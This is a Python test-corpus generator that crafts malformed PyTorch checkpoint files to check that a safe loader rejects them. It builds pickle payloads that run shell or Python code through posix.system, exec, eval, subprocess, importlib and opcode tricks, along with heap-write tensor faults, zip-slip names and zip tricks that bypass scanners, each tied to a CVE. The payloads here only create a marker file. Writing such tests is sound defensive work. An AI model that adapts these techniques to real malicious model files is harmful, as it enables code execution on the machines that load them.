#!/usr/bin/env python3
"""craft.py OUTDIR: crafted invalid (and a few lenient-only) PyTorch
checkpoints, built with tzip.py and tpickle.py (no torch), and
OUTDIR/expected.tsv in make_corpus.py's format (texpect.py).

Every file is torch's layout and a torch-shaped pickle but for the one
thing it breaks:

- code payloads: a pickle whose effect, if anything ever runs it, is to
  create $AFMT_MARKER_DIR/ran-<file stem> (and nothing when the variable
  is unset): GLOBALs of posix/os system, builtins exec/eval, subprocess,
  a dotted name, importlib, pkgutil.resolve_name, STACK_GLOBAL, INST, OBJ,
  NEWOBJ, BUILD rebinding an allowed name, a memo slot overwritten;
- memory-safety faults that use only torch's own globals: SETITEM on a
  tensor, storages claiming more (or fewer) elements than their record,
  views past the end, overflowing strides and offsets;
- zip tricks: duplicate names, local and central names that differ,
  bytes before, between and after, bad CRC-32, deflated members, flag
  bits, names with '..', '/', '\\', records outside the folder, a second
  folder, TorchScript's constants.pkl;
- truncations of a valid file at a spread of lengths.

The note column names the CVE or scanner bypass each file stands for.
check_marker.py proves the payloads live (an unsafe load creates the
marker); run.sh checks afmt never does.
"""

import os
import struct
import sys
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import tpickle  # noqa: E402
import tzip  # noqa: E402
from texpect import Row, write_tsv  # noqa: E402
from tpickle import Asm, OrderedDictValue, Raw, Storage, Tensor  # noqa: E402

SERIALIZATION_ID = b'1572819951185464302605679427294478288987'  # 40 digits, as torch writes


def marker_shell(name):
    """A shell command creating the marker, a no-op without the variable."""
    return '[ -n "$AFMT_MARKER_DIR" ] && touch "$AFMT_MARKER_DIR/ran-%s"' % name


def marker_python(name):
    """Python statements creating the marker (for exec)."""
    return ("import os\nd = os.environ.get('AFMT_MARKER_DIR')\n"
            "if d: open(os.path.join(d, 'ran-%s'), 'w').close()\n" % name)


def marker_expression(name):
    """A Python expression creating the marker (for eval)."""
    return ("__import__('os').environ.get('AFMT_MARKER_DIR') and "
            "open(__import__('os').environ['AFMT_MARKER_DIR'] + '/ran-%s', 'w').close()" % name)


def f32(values):
    return struct.pack('<%df' % len(values), *values)


# ------------------------------------------------------------ building

def base_tensors():
    """The benign part of every crafted file: {'weight': f32[2,3],
    'bias': f32[3]} on storages '0' and '1'."""
    weight = Storage('0', 'f32', 6)
    bias = Storage('1', 'f32', 3)
    tensors = [('weight', Tensor(weight, 0, (2, 3), (3, 1))), ('bias', Tensor(bias, 0, (3,), (1,)))]
    records = {'0': f32([0.5, -1.0, 2.0, 3.25, -0.0, 8.0]), '1': f32([1.0, 2.0, 3.0])}
    return tensors, records


def torch_records(folder, pickle_bytes, storages, byteorder=b'little'):
    """[(name, bytes)] in the order torch 2.13 writes them."""
    members = [('data.pkl', pickle_bytes), ('.format_version', b'1'),
               ('.storage_alignment', b'64')]
    if byteorder is not None:
        members.append(('byteorder', byteorder))
    members += [('data/' + key, storages[key]) for key in sorted(storages, key=int)
                if storages[key] is not None]
    members += [('version', b'3\n'), ('.data/serialization_id', SERIALIZATION_ID)]
    return [(folder + '/' + name, data) for name, data in members]


def state_dict(extra=()):
    """(value, records): the base tensors and `extra` (key, value) pairs."""
    tensors, records = base_tensors()
    return OrderedDictValue(tensors + list(extra)), records


def checkpoint(name, value=None, records=None, pickle_bytes=None, **zip_options):
    """A checkpoint's bytes: `value` pickled (or `pickle_bytes`) beside
    `records`, laid out as torch writes it in folder <name's stem>."""
    if value is None and pickle_bytes is None:
        value, records = state_dict()
    if pickle_bytes is None:
        pickle_bytes = tpickle.dumps(value)
    folder = os.path.splitext(name)[0]
    return tzip.write_zip(torch_records(folder, pickle_bytes, records), **zip_options)


def rows_of(value):
    """expected.tsv's tensor rows of a tpickle value (walk order)."""
    rows, stack = [], [('', value)]
    while stack:
        path, item = stack.pop()
        if isinstance(item, tpickle.Parameter):
            item = item.tensor
        if isinstance(item, Tensor):
            rows.append({'name': path, 'dtype': item.storage.dtype, 'shape': list(item.size),
                         'strides': list(item.stride), 'storage': item.storage.key,
                         'offset': item.offset})
            continue
        if isinstance(item, OrderedDictValue):
            children = [(str(key), child) for key, child in item.items]
        elif isinstance(item, dict):
            children = [(str(key), child) for key, child in item.items()]
        elif isinstance(item, (list, tuple)):
            children = [(str(index), child) for index, child in enumerate(item)]
        else:
            continue
        for key, child in reversed(children):
            stack.append((path + '.' + key if path else key, child))
    return rows


class Corpus:
    """Collects files and their expected.tsv rows."""

    def __init__(self, outdir):
        self.outdir = outdir
        self.rows = []

    def add(self, name, data, klass, member, note, lenient='invalid', value=None):
        with open(os.path.join(self.outdir, name), 'wb') as out:
            out.write(data)
        tensors = rows_of(value) if lenient == 'ok' else []
        self.rows.append(Row(name, 'invalid', lenient, klass, member, note, tensors))

    def valid(self, name, data, note, value):
        with open(os.path.join(self.outdir, name), 'wb') as out:
            out.write(data)
        self.rows.append(Row(name, 'ok', 'ok', '-', '-', note, rows_of(value)))


# ------------------------------------------------------------ payloads

def call(module, name, *arguments):
    """GLOBAL module name, the arguments as a tuple, REDUCE: module.name(*arguments)."""
    asm = Asm().global_(module, name)
    return _arguments(asm, arguments).op(tpickle.REDUCE).bytes()


def _arguments(asm, arguments):
    if len(arguments) > 3:
        asm.mark()
    for argument in arguments:
        if isinstance(argument, bytes):
            asm.raw(argument)       # an opcode sequence making one value
        else:
            asm.unicode(argument)
    return asm.tuple(len(arguments))


def payloads():
    """(file name, pickle bytes of the evil value, class, note).  Each
    evil value sits in a state dict beside two benign tensors."""
    found = []

    def add(stem, evil, klass, note):
        found.append((stem + '.pt', evil, klass, note))

    add('posix_system', call('posix', 'system', marker_shell('posix_system')), 'global',
        'GLOBAL posix system: the classic payload (picklescan, modelscan and '
        'weights_only all catch it)')
    add('os_system', call('os', 'system', marker_shell('os_system')), 'global',
        'GLOBAL os system (pickle writes posix on Linux; os is the alias scanners list)')
    add('builtins_exec', call('builtins', 'exec', marker_python('builtins_exec')), 'global',
        'GLOBAL builtins exec of Python source')
    add('builtins_eval', call('builtins', 'eval', marker_expression('builtins_eval')), 'global',
        'GLOBAL builtins eval of an expression')
    shell_list = (Asm().op(tpickle.EMPTY_LIST).mark().unicode('sh').unicode('-c')
                  .unicode(marker_shell('subprocess_call')).op(tpickle.APPENDS).bytes())
    add('subprocess_call', call('subprocess', 'call', shell_list), 'global',
        'GLOBAL subprocess call([sh, -c, ...]) (CVE-2025-1716-style: a callable a '
        'blocklist may lack)')
    add('dotted_global', call('torch.serialization', 'os.system', marker_shell('dotted_global')),
        'global', 'a dotted name under an allowed-looking module: torch.serialization '
        'os.system (modelscan #85); protocol 2 resolves no dots, so this one runs nothing '
        '[inert]')
    add('importlib_import_module',
        Asm().global_('builtins', 'getattr').raw(call('importlib', 'import_module', 'os'))
        .unicode('system').tuple(2).op(tpickle.REDUCE).unicode(
            marker_shell('importlib_import_module')).tuple(1).op(tpickle.REDUCE).bytes(),
        'global', 'importlib import_module then getattr: an import by a callable scanners '
        'miss (picklescan #66, #74; CVE-2025-10157 subclass imports)')
    add('pkgutil_resolve_name',
        Asm().raw(call('pkgutil', 'resolve_name', 'os:system'))
        .unicode(marker_shell('pkgutil_resolve_name')).tuple(1).op(tpickle.REDUCE).bytes(),
        'global', 'pkgutil resolve_name("os:system"): a name resolved by a callable, '
        'not a GLOBAL (picklescan #74)')
    add('stack_global',
        Asm().unicode('posix').unicode('system').op(tpickle.STACK_GLOBAL)
        .unicode(marker_shell('stack_global')).tuple(1).op(tpickle.REDUCE).bytes(),
        'opcode', 'STACK_GLOBAL (protocol 4) after PROTO 2: names built from strings, '
        'which scanners reading only GLOBAL lines miss')
    add('inst',
        Asm().mark().unicode(marker_shell('inst')).inst('posix', 'system').bytes(),
        'opcode', 'INST posix system: a call with no REDUCE (protocol 0 opcode)')
    add('obj',
        Asm().mark().global_('posix', 'system').unicode(marker_shell('obj'))
        .op(tpickle.OBJ).bytes(),
        'opcode', 'OBJ: a call with no REDUCE (protocol 1 opcode)')
    add('newobj',
        Asm().global_('functools', 'partial').global_('posix', 'system')
        .unicode(marker_shell('newobj')).tuple(2).op(tpickle.NEWOBJ)
        .op(tpickle.EMPTY_TUPLE).op(tpickle.REDUCE).bytes(),
        'opcode', 'NEWOBJ making functools.partial(posix.system, cmd), then REDUCE calls it')
    add('build_rebinds_global',
        Asm().mark().global_('torch', '_utils').none().op(tpickle.EMPTY_DICT)
        .unicode('_rebuild_tensor_v2').global_('posix', 'system').op(tpickle.SETITEM)
        .tuple(2).op(tpickle.BUILD)
        .raw(call('torch._utils', '_rebuild_tensor_v2', marker_shell('build_rebinds_global')))
        .op(tpickle.TUPLE).bytes(),
        'global', 'BUILD setting attributes: torch._utils._rebuild_tensor_v2 rebound to '
        'posix.system, then the allowed name called (modelscan #85: BUILD plus dotted names)')
    def memo_confusion(slot):
        return (Asm().global_('collections', 'OrderedDict').put(slot)
                .global_('posix', 'system').put(slot)          # the overwrite
                .get(slot).unicode(marker_shell('memo_confusion')).tuple(1)
                .op(tpickle.REDUCE).bytes(), 1)
    add('memo_confusion', memo_confusion, 'global',
        'memo confusion: a slot holds OrderedDict, is overwritten by posix system, then '
        'GET of it is called (picklescan #14, #22: the scanner resolves the first PUT)')
    return found


def payload_files(corpus):
    for name, evil, klass, note in payloads():
        value, records = state_dict([('evil', Raw(evil))])
        data = checkpoint(name, value, records)
        if not note.endswith('[inert]'):
            note += ' [payload]'
        corpus.add(name, data, klass, 'data.pkl', note)
    # protocol 4 resolves dotted names: this one would run
    stem = 'dotted_global_proto4'
    evil = call('torch.serialization', 'os.system', marker_shell(stem))
    value, records = state_dict([('evil', Raw(evil))])
    pickled = bytearray(tpickle.dumps(value))
    pickled[1] = 4
    corpus.add(stem + '.pt', checkpoint(stem + '.pt', pickle_bytes=bytes(pickled),
                                        records=records),
               'protocol', 'data.pkl', 'the dotted name under PROTO 4, where find_class '
               'follows dots: torch.serialization.os.system (modelscan #85) [payload]')


# ------------------------------------------------------------ tensor faults

def tensor_file(corpus, name, tensor, records, klass, note, lenient='invalid', extra=()):
    """A state dict {'weight': tensor} (+ extra) over `records`."""
    value = OrderedDictValue([('weight', tensor)] + list(extra))
    corpus.add(name, checkpoint(name, value, records), klass, 'data.pkl', note, lenient, value)


def tensor_faults(corpus):
    six = f32([1, 2, 3, 4, 5, 6])

    def one(name, storage, offset, size, stride, klass, note, data=six, lenient='invalid'):
        tensor_file(corpus, name, Tensor(storage, offset, size, stride), {'0': data}, klass,
                    note, lenient)

    one('storage_4tib.pt', Storage('0', 'f32', 2 ** 40), 0, (6,), (1,), 'storage',
        'a storage claiming 2^40 f32 (4 TiB) over a 24-byte record: a reader that '
        'allocates numel x 4 first (torch 1.13 FloatStorage(2**40))')
    one('numel_larger_than_record.pt', Storage('0', 'f32', 10), 0, (10,), (1,), 'storage',
        'numel 10 over a record of 6 f32: torch never compares them (CVE-2026-24747 half 1)')
    one('numel_smaller_than_record.pt', Storage('0', 'f32', 4), 0, (4,), (1,), 'storage',
        'numel 4 over a record of 6 f32: the record must hold exactly numel x 4 bytes')
    one('view_past_end.pt', Storage('0', 'f32', 6), 0, (7,), (1,), 'bounds',
        'a view of 7 elements over a storage of 6')
    one('view_offset_past_end.pt', Storage('0', 'f32', 6), 5, (2,), (1,), 'bounds',
        'offset 5 + 2 elements over a storage of 6')
    one('empty_view_offset_past_end.pt', Storage('0', 'f32', 6), 7, (0,), (1,), 'bounds',
        'an empty view at offset 7 of a storage of 6 (empty views: offset <= numel)')
    one('transpose_past_end.pt', Storage('0', 'f32', 6), 0, (3, 2), (1, 4), 'bounds',
        'a transposed view whose last element (2*1 + 1*4 = 6) is past a storage of 6')
    one('stride_overflow.pt', Storage('0', 'f32', 6), 0, (5,), (2 ** 62,), 'bounds',
        'stride 2^62 x (5-1) = 2^64: the last element\'s offset wraps to 0 in 64 bits')
    one('offset_overflow.pt', Storage('0', 'f32', 6), 2 ** 63 - 1, (3,), (2 ** 63 - 1,),
        'bounds', 'offset 2^63-1 + 2 x (2^63-1) wraps past 2^64')
    one('size_product_overflow.pt', Storage('0', 'f32', 6), 0, (2 ** 32, 2 ** 32, 0),
        (0, 0, 1), 'bounds', 'sizes whose product is 2^64 x 0: an empty view is checked '
        'without multiplying sizes that overflow', lenient='invalid')
    one('negative_stride.pt', Storage('0', 'f32', 6), 5, (6,), (-1,), 'argument',
        'stride -1 (torch refuses negative strides; a reader that does not walks backwards)')
    one('negative_offset.pt', Storage('0', 'f32', 6), -1, (6,), (1,), 'argument',
        'storage offset -1')
    one('negative_size.pt', Storage('0', 'f32', 6), 0, (-1,), (1,), 'argument', 'size -1')
    one('rank_mismatch.pt', Storage('0', 'f32', 6), 0, (2, 3), (1,), 'argument',
        'size of rank 2, stride of rank 1')
    one('bool_byte_2.pt', Storage('0', 'bool', 4), 0, (4,), (1,), 'values',
        'a bool storage holding the byte 2 (torch loads it; its value is undefined)',
        data=b'\x00\x01\x02\x01')
    one('missing_record.pt', Storage('0', 'f32', 6), 0, (6,), (1,), 'record',
        'a storage whose record data/0 is absent', data=None)
    huge = tpickle.Raw(Asm().long1((2 ** 64).to_bytes(9, 'little')).bytes())
    tensor_file(corpus, 'offset_long_9_bytes.pt', Tensor(Storage('0', 'f32', 6), huge, (1,), (1,)),
                {'0': six}, 'argument', 'a storage offset of 2^64 (LONG1 of 9 bytes: not a '
                '64-bit integer)')
    setitem_files(corpus, six)
    persid_files(corpus, six)


def setitem_files(corpus, six):
    """SETITEM on a tensor: torch < 2.10 wrote into it (CVE-2026-24747)."""
    def after_tensor(index, value, numel, size):
        storage = Storage('0', 'f32', numel)
        tensor = Tensor(storage, 0, size, (1,))
        # {'weight': tensor, 'alias': the tensor fetched again, after a
        # SETITEM on it} (no POP: torch's weights-only unpickler has none)
        pickler = tpickle.Pickler()
        pickler.asm.proto(2).op(tpickle.EMPTY_DICT)
        pickler.memoize({})
        pickler.save('weight')
        pickler.save(tensor)
        pickler.asm.op(tpickle.SETITEM)
        pickler.save('alias')
        pickler.asm.get(pickler.memo[id(tensor)]).int(index).float(value).op(tpickle.SETITEM)
        pickler.asm.op(tpickle.SETITEM).stop()
        return pickler.asm.bytes(), tensor

    data, _ = after_tensor(0, 99.0, 6, (6,))
    corpus.add('setitem_on_tensor.pt', checkpoint('setitem_on_tensor.pt', pickle_bytes=data,
                                                  records={'0': six}),
               'setitem', 'data.pkl', 'SETITEM on a tensor: element 0 = 99.0 '
               '(CVE-2026-24747 half 2; picklescan passes it: torch globals only)')
    data, _ = after_tensor(2 ** 20 - 1, 99.0, 2 ** 20, (2 ** 20,))
    corpus.add('setitem_heap_write.pt', checkpoint('setitem_heap_write.pt', pickle_bytes=data,
                                                   records={'0': six}),
               'setitem', 'data.pkl', 'CVE-2026-24747: numel 2^20 over 24 bytes, then '
               'SETITEM at element 2^20-1: a heap write 4 MiB past the buffer in torch < 2.10')
    # the same through a memo slot overwritten: slot of a dict, then of the tensor
    storage = Storage('0', 'f32', 6)
    tensor = Tensor(storage, 0, (6,), (1,))
    pickler = tpickle.Pickler()
    pickler.asm.proto(2).op(tpickle.EMPTY_DICT)
    pickler.memoize({})
    pickler.save('weight')
    pickler.save(tensor)
    pickler.asm.op(tpickle.SETITEM)
    slot = len(pickler.memo)
    pickler.asm.unicode('scratch').op(tpickle.EMPTY_DICT).put(slot)
    pickler.asm.op(tpickle.SETITEM)
    pickler.asm.unicode('alias').get(pickler.memo[id(tensor)]).put(slot)   # slot: the tensor
    pickler.asm.op(tpickle.SETITEM)
    pickler.asm.unicode('again').get(slot).int(0).float(99.0).op(tpickle.SETITEM)
    pickler.asm.op(tpickle.SETITEM).stop()
    corpus.add('memo_overwrite_setitem.pt',
               checkpoint('memo_overwrite_setitem.pt', pickle_bytes=pickler.asm.bytes(),
                          records={'0': six}),
               'memo', 'data.pkl', 'a memo slot put for a dict, put again for a tensor, then '
               'SETITEM through it: a machine that keeps the first PUT sees a dict')


def persid_files(corpus, six):
    def pid_file(name, pid_asm, klass, note, records=None):
        raw = Raw(pid_asm)
        value = OrderedDictValue([('weight', Tensor(raw, 0, (6,), (1,)))])
        corpus.add(name, checkpoint(name, value, records or {'0': six}), klass, 'data.pkl', note)

    def pid(*items):
        asm = Asm().mark()
        for item in items:
            if isinstance(item, str):
                asm.unicode(item)
            elif isinstance(item, tuple):
                asm.global_(*item)
            else:
                asm.int(item)
        return asm.op(tpickle.TUPLE).op(tpickle.BINPERSID).bytes()

    pid_file('persid_four_items.pt', pid('storage', ('torch', 'FloatStorage'), '0', 'cpu'),
             'persid', 'a persistent id of 4 items (no numel)')
    pid_file('persid_not_storage.pt', pid('module', ('torch', 'FloatStorage'), '0', 'cpu', 6),
             'persid', 'a persistent id whose tag is not "storage"')
    pid_file('persid_location_tpu.pt', pid('storage', ('torch', 'FloatStorage'), '0', 'tpu', 6),
             'persid', 'location "tpu" (cpu, cuda, cuda:N only)')
    pid_file('persid_key_leading_zero.pt',
             pid('storage', ('torch', 'FloatStorage'), '00', 'cpu', 6), 'persid',
             'storage key "00" (decimal without leading zeros), record data/00',
             {'00': six})
    pid_file('persid_class_not_storage.pt', pid('storage', ('posix', 'system'), '0', 'cpu', 6),
             'global', 'a storage class that is posix system')
    pid_file('persid_untyped_storage.pt',
             pid('storage', ('torch.storage', 'UntypedStorage'), '0', 'cpu', 24), 'global',
             'torch.storage UntypedStorage with _rebuild_tensor_v2 (v3\'s storage)')
    # a key used again with another class and count
    first = Storage('0', 'f32', 6)
    again = Storage('0', 'i32', 6)
    value = OrderedDictValue([('a', Tensor(first, 0, (6,), (1,))),
                              ('b', Tensor(again, 0, (6,), (1,)))])
    corpus.add('persid_key_reused.pt', checkpoint('persid_key_reused.pt', value, {'0': six}),
               'persid', 'data.pkl', 'key "0" first FloatStorage, then IntStorage')
    # keys not in order of first use
    one, zero = Storage('1', 'f32', 6), Storage('0', 'f32', 3)
    value = OrderedDictValue([('a', Tensor(one, 0, (6,), (1,))), ('b', Tensor(zero, 0, (3,), (1,)))])
    corpus.add('persid_keys_out_of_order.pt',
               checkpoint('persid_keys_out_of_order.pt', value, {'0': f32([1, 2, 3]), '1': six}),
               'persid', 'data.pkl', 'storage keys first used as "1", then "0"')
    # an unreferenced record
    value, records = state_dict()
    records['2'] = six
    corpus.add('unreferenced_record.pt', checkpoint('unreferenced_record.pt', value, records),
               'record', 'data/2', 'data/2 that no tensor references (hidden bytes)')


# ------------------------------------------------------------ pickle structure

def pickle_faults(corpus):
    value, records = state_dict()
    good = tpickle.dumps(value)

    def pickled(name, data, klass, note, lenient='invalid', shown=None):
        corpus.add(name, checkpoint(name, pickle_bytes=data, records=records), klass,
                   'data.pkl', note, lenient, shown if shown is not None else value)

    pickled('unknown_opcode.pt', good[:-1] + b'\xff.', 'opcode', 'an opcode byte 0xff before STOP')
    pickled('after_stop.pt', good + b'N.', 'structure', 'opcodes after STOP (a second pickle '
            'a reader that stops at the first STOP never sees)')
    pickled('no_stop.pt', good[:-1], 'structure', 'the pickle ends without STOP')
    pickled('mark_left.pt', good[:2] + b'(' + good[2:], 'structure',
            'a MARK left on the stack at STOP')
    pickled('two_values.pt', good[:-1] + b'N.', 'structure', 'two values on the stack at STOP')
    pickled('get_unknown_slot.pt', good[:-1] + Asm().unicode('extra').get(99)
            .op(tpickle.SETITEM).stop().bytes(), 'memo',
            'GET of memo slot 99, never put')
    cycle = Asm().proto(2).op(tpickle.EMPTY_DICT).put(0).unicode('self').put(1).get(0) \
        .op(tpickle.SETITEM).stop().bytes()
    pickled('self_cycle.pt', cycle, 'memo', 'a dict holding itself (GET of a container '
            'being filled): a recursive walker never ends', shown={})
    depth = 50000
    deep = Asm().proto(2)
    for _ in range(depth):
        deep.op(tpickle.EMPTY_LIST)
    for _ in range(depth - 1):
        deep.op(tpickle.APPEND)
    pickled('deep_nesting.pt', deep.stop().bytes(), 'limit',
            'lists nested %d deep: a recursive reader overflows its stack' % depth, shown=[])
    pickled('memo_amplification.pt', amplification(), 'limit',
            'two tensors in a list, 1000 GETs of that list in a list, four levels: 2 x 10^12 '
            'key paths from an 8 KB pickle (a billion-laughs walk)')
    pickled('build_on_class.pt', good[:-1] + Asm().unicode('class')
            .global_('collections', 'OrderedDict').none().op(tpickle.EMPTY_DICT).unicode('x')
            .int(1).op(tpickle.SETITEM).tuple(2).op(tpickle.BUILD).op(tpickle.SETITEM)
            .stop().bytes(),
            'build', 'BUILD setting an attribute on the class OrderedDict (allowed GLOBALs '
            'only)')
    pickled('setitem_on_list.pt',
            Asm().proto(2).op(tpickle.EMPTY_LIST).put(0).int(0).int(1).op(tpickle.SETITEM)
            .stop().bytes(), 'structure', 'SETITEM on a list', shown=[])
    pickled('duplicate_key.pt', duplicate_key(value), 'structure',
            'the key "weight" twice in one dict (the second wins in torch)')
    pickled('reduce_ordereddict_args.pt',
            patched(good, b'OrderedDict\nq\x00)R', b'OrderedDict\nq\x00' +
                    Asm().unicode('x').int(1).tuple(2).tuple(1).bytes() + b'R'),
            'argument', 'OrderedDict called with arguments ((x, 1),)')
    pickled('rebuild_tensor_five_args.pt', five_arguments(), 'argument',
            '_rebuild_tensor_v2 with 5 arguments (no backward hooks)')
    pickled('backward_hooks_not_empty.pt', nonempty_hooks(), 'argument',
            'backward hooks (the 6th argument) holding an entry: 1.13 installed them')
    # non-canonical forms: strict refuses, lenient accepts with a warning
    pickled('noncanonical_binint.pt',
            patched(good, b'K\x00K\x02K\x03\x86', b'J\x00\x00\x00\x00K\x02K\x03\x86'),
            'canonical', 'storage offset 0 as BININT (4 bytes) not BININT1', 'ok')
    pickled('noncanonical_tuple.pt', patched(good, b'K\x02K\x03\x86', b'(K\x02K\x03t'),
            'canonical', 'the size (2, 3) as MARK ... TUPLE, not TUPLE2', 'ok')
    pickled('noncanonical_long_binput.pt',
            patched(good, b'OrderedDict\nq\x00', b'OrderedDict\nr\x00\x00\x00\x00'),
            'canonical', 'LONG_BINPUT for memo slot 0', 'ok')
    big = OrderedDictValue([('weight', value.items[0][1]), ('bias', value.items[1][1])] +
                           [('k%d' % index, index) for index in range(1001)])
    batch = tpickle.Pickler()
    batch.BATCHSIZE = 2000
    pickled('setitems_batch_1003.pt', batch.dump(big), 'canonical',
            'one SETITEMS of 1003 items (CPython batches by 1000)', 'ok', shown=big)


def patched(data, old, new):
    """data with the first `old` replaced by `new` (which must be there)."""
    assert old in data, (old, data[:80])
    return data.replace(old, new, 1)


def amplification():
    """A tensor, then lists of 1000 GETs of the level below, 4 levels."""
    storage = Storage('0', 'f32', 6)
    tensor = Tensor(storage, 0, (2, 3), (3, 1))
    bias = Tensor(Storage('1', 'f32', 3), 0, (3,), (1,))
    level = [tensor, bias]
    for _ in range(4):
        level = [level] * 1000
    return tpickle.dumps({'weight': level})


def duplicate_key(value):
    pickler = tpickle.Pickler()
    items = list(value.items)
    dup = OrderedDictValue(items + [('weight', items[1][1])])
    return pickler.dump(dup)


def five_arguments():
    storage = Storage('0', 'f32', 6)
    tensor = Tensor(storage, 0, (2, 3), (3, 1))
    tensor.arguments = (storage, 0, (2, 3), (3, 1), False)
    bias = base_tensors()[0][1]
    return tpickle.dumps(OrderedDictValue([('weight', tensor), bias]))


def nonempty_hooks():
    value, _ = state_dict()
    value.items[0][1].hooks = OrderedDictValue([(0, tpickle.global_ref('torch', 'FloatStorage'))])
    return tpickle.dumps(value)


# ------------------------------------------------------------ zip tricks

def evil_pickle(name):
    """A whole pickle whose loading runs the marker command."""
    return Asm().proto(2).raw(call('posix', 'system', marker_shell(name))).stop().bytes()


def zip_tricks(corpus):
    value, records = state_dict()
    good = tpickle.dumps(value)

    def members_of(folder):
        return [tzip.Member(name, data) for name, data in torch_records(folder, good, records)]

    def trick(name, change, klass, member, note, lenient='invalid', **zip_options):
        folder = os.path.splitext(name)[0]
        members = members_of(folder)
        change(folder, members)   # changes the list in place
        data = tzip.write_zip(members, **zip_options)
        corpus.add(name, data, klass, member, note, lenient, value)

    def knob(record, **knobs):
        """A change setting knobs on one record's Member."""
        def change(folder, members):
            for member in members:
                if member.name == folder + '/' + record:
                    for key, setting in knobs.items():
                        setattr(member, key, setting)
        return change

    def appended(*extra):
        def change(folder, members):
            for record, data in extra:
                members.append(tzip.Member(record.replace('FOLDER', folder), data))
        return change

    trick('duplicate_data_pkl.pt',
          lambda folder, members: members.append(tzip.Member(folder + '/data.pkl',
                                                             evil_pickle('duplicate_data_pkl'))),
          'zip-duplicate', 'data.pkl', 'two data.pkl: the first benign, the last evil: a '
          'reader taking the last (Python\'s zipfile) runs it; torch 2.13 (miniz) reads the '
          'first (CVE-2025-1944-style) [inert]')
    trick('duplicate_data_pkl_first_evil.pt',
          lambda folder, members: members.__setitem__(0, tzip.Member(
              folder + '/data.pkl', evil_pickle('duplicate_data_pkl_first_evil'))) or
          members.append(tzip.Member(folder + '/data.pkl', good)),
          'zip-duplicate', 'data.pkl', 'two data.pkl: the first evil, the last benign: a '
          'scanner taking the last (Python\'s zipfile) passes what torch 2.13 runs '
          '(CVE-2025-1944-style) [payload]')
    trick('duplicate_record.pt', appended(('FOLDER/data/0', f32([9, 9, 9, 9, 9, 9]))),
          'zip-duplicate', 'data/0', 'two data/0 of other values: readers disagree on the weights')
    trick('local_central_names_differ.pt',
          lambda folder, members: setattr(members[0], 'data', evil_pickle(
              'local_central_names_differ')) or setattr(members[0], 'local_name',
                                                        folder + '/data.pkx'),
          'zip-mismatch', 'data.pkl', 'the local header says data.pkx, the central directory '
          'data.pkl: a scanner walking local headers sees no pickle, torch reads the central '
          'name (CVE-2025-1944) [payload]')
    trick('local_flags_differ.pt', knob('data.pkl', local_flags=0x0008), 'zip-mismatch',
          'data.pkl', 'local header flags 0x0008, central 0x0808')
    trick('local_crc_differs.pt', knob('data.pkl', local_sizes=True, local_crc=0x12345678),
          'zip-mismatch', 'data.pkl', 'a local header CRC-32 other than the central one')
    trick('bad_crc.pt', knob('data.pkl', crc=0xdeadbeef), 'crc', 'data.pkl',
          'a wrong CRC-32 for data.pkl: Python\'s zipfile (picklescan) raises, torch never '
          'checks (CVE-2025-10156)', 'ok')
    trick('bad_crc_record.pt', knob('data/0', crc=0), 'crc', 'data/0',
          'CRC-32 0 for data/0 (as set_crc32_options(False) writes)', 'ok')
    trick('deflated.pt', lambda folder, members: [setattr(m, 'method', 8) for m in members],
          'deflate', '-', 'every member deflated (method 8): torch inflates them', 'ok')
    zeros = bytes(10 * 2 ** 20)
    trick('deflate_size_lie.pt', knob('data/0', method=8, data=zeros, usize=24), 'deflate',
          'data/0', 'data/0 deflated from 10 MiB of zeros (10 KiB stored) but declaring 24 '
          'bytes: an inflater must stop at the declared size')
    trick('flag_encrypted.pt', knob('data.pkl', flags=0x0809), 'zip-flags', 'data.pkl',
          'flag bit 0 (encrypted) on data.pkl (CVE-2025-1945: flag bits that stop '
          'zipfile, not torch)')
    trick('flag_encrypted_central.pt', knob('data.pkl', flags=0x0809, local_flags=0x0808),
          'zip-flags', 'data.pkl', 'flag bit 0 in the central directory only (CVE-2025-1945)')
    trick('flag_unknown_bit.pt', knob('data.pkl', flags=0x0818), 'zip-flags', 'data.pkl',
          'flag bit 4 (enhanced deflating) on a stored member (CVE-2025-1945)')
    trick('bytes_before_zip.pt', lambda folder, members: None, 'zip-prefix', '-',
          '64 zero bytes before the first local header (torch: not a zip, goes legacy)',
          prefix=bytes(64))
    trick('pickle_before_zip.pt', lambda folder, members: None, 'pickle-before-zip', '-',
          'a pickle, then a valid zip: torch.load reads the pickle (its first 4 bytes are '
          'not PK), zip tools and zip-reading scanners the archive [payload]',
          prefix=evil_pickle('pickle_before_zip'))
    trick('bytes_between_members.pt', knob('byteorder', trailer=b'hidden bytes'), 'zip-gap',
          'byteorder', '12 bytes between two members, in no member')
    trick('bytes_after_end.pt', lambda folder, members: None, 'zip-trailing', '-',
          'bytes after the end record', suffix=b'trailing bytes\n')
    trick('end_comment.pt', lambda folder, members: None, 'zip-trailing', '-',
          'a comment in the end record (torch writes none)', comment=b'comment')
    trick('name_dotdot.pt', appended(('FOLDER/../escape.txt', b'x')), 'zip-name',
          'name_dotdot/../escape.txt', 'a member name with a ".." component (zip slip)')
    trick('name_absolute.pt', appended(('/tmp/escape.txt', b'x')), 'zip-name',
          '/tmp/escape.txt', 'an absolute member name')
    trick('name_backslash.pt', appended(('FOLDER/data\\..\\..\\escape.txt', b'x')), 'zip-name',
          'name_backslash/data\\..\\..\\escape.txt', 'a member name with backslashes '
          '(a Windows path escape)')
    trick('name_empty_component.pt', appended(('FOLDER//data.pkl', evil_pickle(
        'name_empty_component'))), 'zip-name', 'name_empty_component//data.pkl',
          'a name with an empty component, normalizing to data.pkl: an extractor that '
          'normalizes writes it over data.pkl; torch reads the real one [inert]')
    trick('record_outside_folder.pt', appended(('other/data.pkl', evil_pickle(
        'record_outside_folder'))), 'folder', 'other/data.pkl',
          'a record outside the folder the first entry names (torch refuses it) [inert]')
    trick('second_folder.pt',
          lambda folder, members: members.extend(
              tzip.Member('second/' + m.name.split('/', 1)[1], m.data) for m in list(members)),
          'folder', 'second/data.pkl', 'every record twice, under the folder and under second/')
    trick('constants_pkl.pt', appended(('FOLDER/constants.pkl', Asm().proto(2).op(
        tpickle.EMPTY_TUPLE).stop().bytes())), 'torchscript', 'constants.pkl',
          'constants.pkl present: torch.load hands the file to torch.jit.load before '
          'looking at weights_only (CVE-2025-32434, fixed in 2.6.0)')
    trick('code_folder.pt', appended(('FOLDER/code/__torch__/evil.py', b'def f(): pass\n')),
          'torchscript', 'code/__torch__/evil.py', 'TorchScript code/ in a checkpoint')
    trick('unknown_record.pt', appended(('FOLDER/extra.txt', b'notes\n')), 'record',
          'extra.txt', 'an unknown record outside data/ (lenient ignores it)', 'ok')
